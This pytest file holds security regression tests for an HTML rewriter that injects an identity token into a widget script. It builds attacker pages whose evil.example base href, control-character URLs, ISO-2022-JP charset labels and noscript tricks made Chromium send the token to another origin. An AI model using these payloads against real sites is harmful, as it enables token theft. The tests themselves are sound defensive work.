"""Inputs an attacker would write, each one found to put a token where it does not belong.

Every case here was checked against headless Chromium (every request intercepted) before it
became a test: the page either made Chromium send the token to another origin, put it on a
script loaded from another URL, or showed that the rewriter's work or memory grows faster than
its input, or that splitting a body into chunks changes the bytes. The Chromium test at the
end replays the leak pages in the browser; the others check the rewriter's output alone, with
the C scanner and with the pure-Python one.
"""

from __future__ import annotations

import re
import tracemalloc
from collections.abc import Callable, Iterator
from typing import Any

import pytest

from reqio_middleware import HTMLRewriter, rewrite_html, rewriter, tokenizer
from reqio_middleware.policy import _is_rewritable_type

_SCANNERS = (
    ["c", "pattern"] if tokenizer._scan_data is not tokenizer._scan_data_pattern else ["pattern"]
)

TOKEN = "eyJ0eXAi.ATTACK-token_7.sig"
WIDGET = b"<script src=https://reqio.app/widget.js></script>"
EVIL_BASE = b"<base href='https://evil.example/'>"


@pytest.fixture(params=_SCANNERS)
def scanner(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> str:
    """A test asking for it runs with the C scanner and with the pure-Python patterns."""
    if request.param == "pattern":
        for name in tokenizer._ACCELERATED:
            monkeypatch.setattr(tokenizer, name, getattr(tokenizer, name + "_pattern"))
    return str(request.param)


def streamed(doc: bytes, size: int) -> bytes:
    r = HTMLRewriter(TOKEN)
    out = [r.feed(doc[i : i + size]) for i in range(0, len(doc), size)]
    out.append(r.close())
    return b"".join(out)


def outputs(doc: bytes, sizes: tuple[int, ...] = (1, 7, 4096)) -> list[bytes]:
    """The whole-document result and the streamed ones at a few chunk sizes."""
    whole = rewrite_html(doc, TOKEN)
    assert isinstance(whole, bytes)
    return [whole] + [streamed(doc, size) for size in sizes]


# --- 1. character references a browser keeps and html.unescape drops -------------------------

#: ``html.unescape`` turns these references into nothing; the WHATWG tokenizer keeps the code
#: point (a parse error, not a removal), so the URL a browser parses still holds it. In the
#: scheme that makes the URL relative, and a ``<base>`` sends it (and the token on its
#: element) to another site: Chromium ran ``https://evil.example/https%01://reqio.app/widget.js``.
DROPPED_REFS = ["&#x1;", "&#x8;", "&#xB;", "&#xE;", "&#x1F;", "&#x7F;", "&#xFDD0;", "&#xFFFE;"]


@pytest.mark.parametrize("ref", DROPPED_REFS)
@pytest.mark.usefixtures("scanner")
def test_reference_kept_by_the_browser_in_the_scheme_gets_no_token(ref: str) -> None:
    page = EVIL_BASE + f"<script src='https{ref}://reqio.app/widget.js'></script>".encode()
    for out in outputs(page):
        assert TOKEN.encode() not in out


@pytest.mark.parametrize(
    "src",
    [
        "https:&#x1;//reqio.app/widget.js",  # relative: base dir + "%01//reqio.app/..."
        "https://reqio.app/wid&#x1;get.js",  # the widget's origin but not its path
        "https://reqio.app/widget.js&#xFFFE;",
        "https://reqio.app/widget&#x7F;.js",
    ],
)
@pytest.mark.usefixtures("scanner")
def test_reference_kept_by_the_browser_elsewhere_in_the_url_gets_no_token(src: str) -> None:
    page = EVIL_BASE + f"<script src='{src}'></script>".encode()
    for out in outputs(page):
        assert TOKEN.encode() not in out


@pytest.mark.parametrize(
    "tag",
    [
        b"<script src='\x00https://reqio.app/widget.js'></script>",
        b"<script src=\x00https://reqio.app/widget.js></script>",
        b"<script src='https://reqio.app/widget.js\x00'></script>",
    ],
    ids=["quoted-lead", "unquoted-lead", "trail"],
)
@pytest.mark.usefixtures("scanner")
def test_nul_byte_in_src_is_not_trimmed_like_a_control(tag: bytes) -> None:
    # The tokenizer turns NUL in an attribute value into U+FFFD, which the URL parser does
    # not trim: Chromium ran https://evil.example/%EF%BF%BDhttps://reqio.app/widget.js.
    for out in outputs(EVIL_BASE + tag):
        assert TOKEN.encode() not in out


@pytest.mark.usefixtures("scanner")
def test_scheme_relative_src_under_an_http_base_gets_no_token() -> None:
    # Chromium resolves it to http://reqio.app/widget.js: not the widget's https origin.
    page = b"<base href='http://site.example/'><script src='//reqio.app/widget.js'></script>"
    for out in outputs(page):
        assert TOKEN.encode() not in out


# --- 2. an ISO-2022-JP label a browser honours past the first 1024 bytes --------------------

#: In ISO-2022-JP, ``ESC $ B`` makes the following byte pairs JIS X 0208 characters, so the
#: ``<style>`` below is text to the browser while the rewriter enters raw text at it, leaves
#: raw text inside the ``<img>``'s URL and stamps a "widget tag" that is part of that URL.
JIS_SPAN = b"\x1b$B<style>\x1b(B<img src='https://evil.example/x?</style>" + WIDGET + b"'>"

#: Chromium's meta prescan goes on past 1024 bytes while it is still inside ``<head>``: each
#: page made it request ``https://evil.example/x?...data-identity-token=...``.
LATE_LABELS = [
    b"<html><head><meta name=description content='"
    + b"a" * 1500
    + b"'><meta charset='iso-2022-jp'></head><body>",
    b"<html><head><title>"
    + b"t" * 1500
    + b"</title><meta http-equiv=Content-Type content='text/html; charset=iso-2022-jp'>"
    + b"</head><body>",
    b"<head><link rel=preload href='" + b"b" * 1500 + b"'><meta charset=csISO2022JP></head>",
]


#: Chromium's prescan runs the HTML tokenizer, which decodes character references in the
#: label, and skips comments however long: these labels too made it decode ISO-2022-JP.
HIDDEN_LABELS = [
    b"<meta charset='iso&#45;2022-jp'>",
    b"<meta http-equiv=content-type content='text/html; charset=iso&#x2d;2022&#x2D;jp'>",
    b"<meta charset='&#x49;SO-2022-JP'>",
    b"<!--" + b"c" * 1100 + b"--><meta charset=iso-2022-jp>",
]


@pytest.mark.parametrize(
    "head",
    LATE_LABELS + HIDDEN_LABELS,
    ids=["meta", "title", "link", "ref-dec", "ref-hex", "ref-letter", "long-comment"],
)
@pytest.mark.usefixtures("scanner")
def test_iso_2022_jp_label_after_a_long_head_gets_no_token(head: bytes) -> None:
    for out in outputs(head + JIS_SPAN):
        assert TOKEN.encode() not in out


def test_repeated_charset_parameter_is_read_as_the_browser_reads_it() -> None:
    # WHATWG MIME sniffing keeps the first charset: this page is UTF-16 to Chromium.
    assert not _is_rewritable_type("text/html; charset=utf-16; charset=utf-8")
    assert not _is_rewritable_type(b"text/html;charset=utf-16;charset=utf-8")


# --- 2b. <noscript> read with scripting off -------------------------------------------------

#: With JavaScript off (a user setting, or a page framed by ``<iframe sandbox>`` without
#: ``allow-scripts``) ``<noscript>`` is no raw text: its content is markup, so the rewriter's
#: "widget tag" after ``</noscript>`` is part of a URL. Chromium without JavaScript requested
#: ``https://evil.example/i.gif?...data-identity-token=...`` for both pages.
NOSCRIPT_SPANS = {
    "body": b"<p>hi</p><noscript><img src='https://evil.example/i.gif?</noscript>"
    + WIDGET
    + b"'></noscript>",
    "head": b"<head><noscript><link rel=stylesheet href='https://evil.example/c.css?</noscript>"
    + WIDGET
    + b"'></noscript></head>",
}


@pytest.mark.parametrize("name", sorted(NOSCRIPT_SPANS))
@pytest.mark.usefixtures("scanner")
def test_noscript_content_read_as_markup_hides_no_widget_tag(name: str) -> None:
    for out in outputs(NOSCRIPT_SPANS[name]):
        assert TOKEN.encode() not in out


# --- 3. chunking must not change the output ------------------------------------------------


@pytest.mark.parametrize(
    "doc",
    [
        b"<svg " + b"b" * 70_000 + b"></svg>" + WIDGET,
        b"<svg a='" + b"b" * 70_000 + b"'/>" + WIDGET,
        b"<math " + b"b" * 70_000 + b"></math>" + WIDGET,
    ],
    ids=["svg-long-name", "svg-long-value", "math"],
)
@pytest.mark.usefixtures("scanner")
def test_a_foreign_root_tag_longer_than_max_tag_bytes_splits_alike(doc: bytes) -> None:
    # The whole document stamps the widget after the closed <svg>; a stream fed in chunks
    # gave up at the long tag and did not: any split must give the bytes of the whole.
    whole, *parts = outputs(doc, (1000, 4096))
    for part in parts:
        assert part == whole


# --- 4. memory and work stay linear ----------------------------------------------------------


@pytest.mark.usefixtures("scanner")
def test_closed_foreign_element_names_are_not_all_remembered() -> None:
    """After a closed SVG text element the tree model remembered every element name closed
    since, so a stream of distinct names grew its memory with the input."""
    r = HTMLRewriter(TOKEN)
    r.feed(b"<svg><desc>x</desc>" + b" " * 2048)
    tracemalloc.start()
    try:
        before = tracemalloc.get_traced_memory()[0]
        for i in range(1000):
            name = b"g%06d" % i + b"x" * 2000
            r.feed(b"<" + name + b"></" + name + b">")
        grown = tracemalloc.get_traced_memory()[0] - before
    finally:
        tracemalloc.stop()
    # 2 MB went through; one tag (plus bookkeeping) may stay.
    assert grown < 256 * 1024, f"{grown} bytes held after streaming 2 MB"


class _Work:
    """Counts the bytes the scanner's patterns and C functions examine.

    Each call's share is the distance from its start to where it matched or, when it found
    nothing, to the end of the buffer: re-reading a held prefix on every chunk shows as a
    total that grows with the square of the input.
    """

    def __init__(self) -> None:
        self.total = 0

    def pattern(self, pat: re.Pattern[bytes]) -> Any:
        work = self

        class Counted:
            def match(self, buf: bytes, pos: int = 0, endpos: int | None = None) -> Any:
                m = pat.match(buf, pos) if endpos is None else pat.match(buf, pos, endpos)
                work.total += (m.end() if m else len(buf)) - pos
                return m

            def search(self, buf: bytes, pos: int = 0, endpos: int | None = None) -> Any:
                m = pat.search(buf, pos) if endpos is None else pat.search(buf, pos, endpos)
                work.total += (m.end() if m else len(buf)) - pos
                return m

            def __getattr__(self, name: str) -> Any:
                return getattr(pat, name)

        return Counted()

    def function(self, fn: Callable[..., int]) -> Callable[..., int]:
        def counted(buf: bytes, pos: int, *rest: Any) -> int:
            end = fn(buf, pos, *rest)
            self.total += (end if end != -1 else len(buf)) - pos
            return end

        return counted


@pytest.fixture
def work(scanner: str, monkeypatch: pytest.MonkeyPatch) -> Iterator[_Work]:
    counter = _Work()
    for name, value in list(vars(rewriter).items()):
        if isinstance(value, re.Pattern):
            monkeypatch.setattr(tokenizer, name, counter.pattern(value))
    for name in ("_tag_end", "_scan_data"):
        monkeypatch.setattr(tokenizer, name, counter.function(getattr(tokenizer, name)))
    yield counter


N = 8192


@pytest.mark.parametrize(
    "doc",
    [
        b"<svg></" + b"g" * N + b">" + WIDGET,  # an end tag's name in foreign content
        b"<svg><g" + b" " * N + b">" + WIDGET,
        b"<svg><g a='" + b"x" * N + b"'>" + WIDGET,
        b"<math><mi></" + b"m" * N + b">" + WIDGET,
        b"<select></" + b"o" * N + b">" + WIDGET,
    ],
    ids=["svg-end-name", "svg-spaces", "svg-value", "mi-end-name", "select-end-name"],
)
def test_streaming_byte_by_byte_examines_each_byte_a_bounded_number_of_times(
    work: _Work, doc: bytes
) -> None:
    streamed(doc, 1)
    # A normal page costs a few dozen reads per byte here (every feed re-checks its byte);
    # re-reading a held 8 KiB name per byte costs thousands.
    assert work.total < 256 * len(doc), f"{work.total / len(doc):.0f} reads per byte"


# --- 5. the leak pages in a real browser -----------------------------------------------------

LEAK_PAGES = {
    "ref-in-scheme": EVIL_BASE + b"<script src='https&#x1;://reqio.app/widget.js'></script>",
    "nul-before-scheme": EVIL_BASE + b"<script src='\x00https://reqio.app/widget.js'></script>",
    "nonchar-in-scheme": EVIL_BASE + b"<script src='https&#xFDD0;://reqio.app/widget.js'></script>",
    "iso-2022-jp-late-label": LATE_LABELS[0] + JIS_SPAN,
    "iso-2022-jp-label-with-a-reference": HIDDEN_LABELS[0] + JIS_SPAN,
}

_TOKEN_PLACES = r"""(tok) => {
  const bad = [];
  const walk = (n) => {
    if (n.nodeType === 1) {
      for (const a of n.attributes) {
        if (!a.value.includes(tok)) continue;
        const widget = a.name === 'data-identity-token' && n.localName === 'script'
          && n.namespaceURI === 'http://www.w3.org/1999/xhtml'
          && n.src === 'https://reqio.app/widget.js';
        if (!widget) bad.push(n.localName + '@' + a.name + ' src=' + (n.src || ''));
      }
      if (n.content instanceof DocumentFragment) walk(n.content);  // <template>, not <meta content>
    } else if (n.data !== undefined && n.data.includes(tok)) {
      bad.push('text in ' + (n.parentNode ? n.parentNode.localName : '?'));
    }
    for (const c of n.childNodes) walk(c);
  };
  walk(document);
  return bad;
}"""


LEAK_PAGES.update({f"noscript-{k}-without-javascript": v for k, v in NOSCRIPT_SPANS.items()})


@pytest.mark.parametrize("name", sorted(LEAK_PAGES))
def test_chromium_sees_the_token_only_on_the_widget(browser: Any, name: str) -> None:
    page_bytes = rewrite_html(LEAK_PAGES[name], TOKEN)
    javascript = "without-javascript" not in name
    requests: list[str] = []

    def handle(route: Any, request: Any) -> None:
        requests.append(request.url)
        if request.url == "https://site.test/":
            # No charset in the header: the page's own label decides, as for the middleware.
            route.fulfill(status=200, body=page_bytes, headers={"content-type": "text/html"})
        elif request.url.endswith(".js"):
            route.fulfill(status=200, body=b"", headers={"content-type": "text/javascript"})
        else:
            route.fulfill(status=404, body=b"")

    context = browser.new_context(java_script_enabled=javascript)
    try:
        page = context.new_page()
        page.route("**/*", handle)
        page.goto("https://site.test/", wait_until="load")
        # Playwright's evaluate runs even where the page's own scripts may not.
        misplaced = page.evaluate(_TOKEN_PLACES, TOKEN)
    finally:
        context.close()
    leaked = [url for url in requests if TOKEN in url]
    assert not leaked, f"token in request URLs: {leaked}"
    assert not misplaced, f"token outside the widget's script: {misplaced}"
